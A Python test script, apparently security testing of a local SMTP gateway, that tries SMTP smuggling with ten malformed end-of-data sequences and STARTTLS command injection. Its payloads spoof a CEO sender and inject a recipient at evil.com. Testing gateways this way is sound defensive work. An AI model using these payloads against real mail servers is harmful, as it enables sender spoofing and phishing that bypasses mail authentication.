"""SMTP smuggling and STARTTLS command injection, queue and proxy mode."""
import socket
import ssl
import time
from lib import *

SMUGGLED = (b"MAIL FROM:<ceo@contoso.com>\r\nRCPT TO:<victim@evil.com>\r\nRCPT TO:<bob@contoso.com>\r\nDATA\r\n"
            b"From: ceo@contoso.com\r\nSubject: SMUGGLED\r\n\r\nsmuggled\r\n")

ENDINGS = [
    ("<LF>.<LF>", b"\n.\n"),
    ("<CR>.<CR>", b"\r.\r"),
    ("<LF>.<CR><LF>", b"\n.\r\n"),
    ("<CR><LF>.<LF>", b"\r\n.\n"),
    ("<CR><LF>.<CR>", b"\r\n.\r"),
    ("<CR>.<CR><LF>", b"\r.\r\n"),
    ("<LF>.<CR>", b"\n.\r"),
    ("<CR><LF>.<NUL><CR><LF>", b"\r\n.\x00\r\n"),
    ("<CR><LF>. <CR><LF>", b"\r\n. \r\n"),
    ("<CR><LF>.<CR><CR><LF>", b"\r\n.\r\r\n"),
]


def smuggle(port, name, ending):
    clear()
    s = Sess(port)
    s.starttls()
    out = [s.cmd(b"MAIL FROM:<sender@example.org>"), s.cmd(b"RCPT TO:<alice@contoso.com>"), s.cmd(b"DATA")]
    s.send(body(text=b"first part") + ending + SMUGGLED + b"\r\n.\r\n")
    replies = []
    try:
        s.s.settimeout(8)
        while True:
            replies.append(s.reply())
    except Exception:
        pass
    s.close()
    q = wait_queued(1, 8)
    time.sleep(1)
    q = queued()
    smug = [m for m in q if b"SMUGGLED" in header_of(m["content"])]
    rc = [r for m in q for r in m["rcpts"]]
    return replies, q, smug, rc


def starttls_injection(port, tail):
    """STARTTLS with commands pipelined after it in the same packet."""
    clear()
    s = Sess(port)
    s.cmd(b"EHLO attacker.test")
    s.send(b"STARTTLS\r\n" + tail)
    r = s.reply()
    ctx = ssl.create_default_context(cafile=CA)
    try:
        s.s = ctx.wrap_socket(s.s, server_hostname="localhost")
    except Exception as e:
        return r, f"TLS failed: {e!r}"[:100], []
    s.buf = b""
    s.s.settimeout(3)
    got = []
    try:
        # Anything the gateway answers to the injected commands comes now, before we send anything.
        d = s.s.recv(65536)
        got.append(d.decode(errors="replace"))
    except Exception:
        pass
    # Now a legitimate use of the session: if the injected MAIL/RCPT survived, this RCPT joins it.
    s.s.settimeout(10)
    after = []
    try:
        after.append(s.cmd(b"EHLO legit.test").splitlines()[0])
        after.append(s.cmd(b"RCPT TO:<alice@contoso.com>"))
        after.append(s.cmd(b"MAIL FROM:<sender@example.org>"))
        after.append(s.cmd(b"RCPT TO:<alice@contoso.com>"))
        after.append(s.cmd(b"DATA"))
        s.send(body() + b"\r\n.\r\n")
        after.append(s.reply())
        s.cmd(b"QUIT")
    except Exception as e:
        after.append(repr(e)[:80])
    s.close()
    q = wait_queued(1, 6)
    return r, got, after, q


if __name__ == "__main__":
    for port, mode in ((QUEUE, "queue"), (PROXY, "proxy")):
        for name, ending in ENDINGS:
            replies, q, smug, rc = smuggle(port, name, ending)
            print(f"[{mode}] smuggle {name}: replies={[x.splitlines()[-1][:50] for x in replies]} downstream msgs={len(q)} rcpts={rc} smuggled-as-message={len(smug)}")
        for tail in (b"MAIL FROM:<ceo@contoso.com>\r\nRCPT TO:<victim@evil.com>\r\n",
                     b"RSET\r\nMAIL FROM:<x@example.org>\r\n",
                     b"EHLO x\r\n"):
            r, got, after, q = starttls_injection(port, tail)
            print(f"[{mode}] STARTTLS+{tail!r}: 220={r[:30]!r} injected-answers={got} after={[a.splitlines()[-1][:40] for a in after]} downstream={[ (m['sender'], m['rcpts']) for m in q]}")
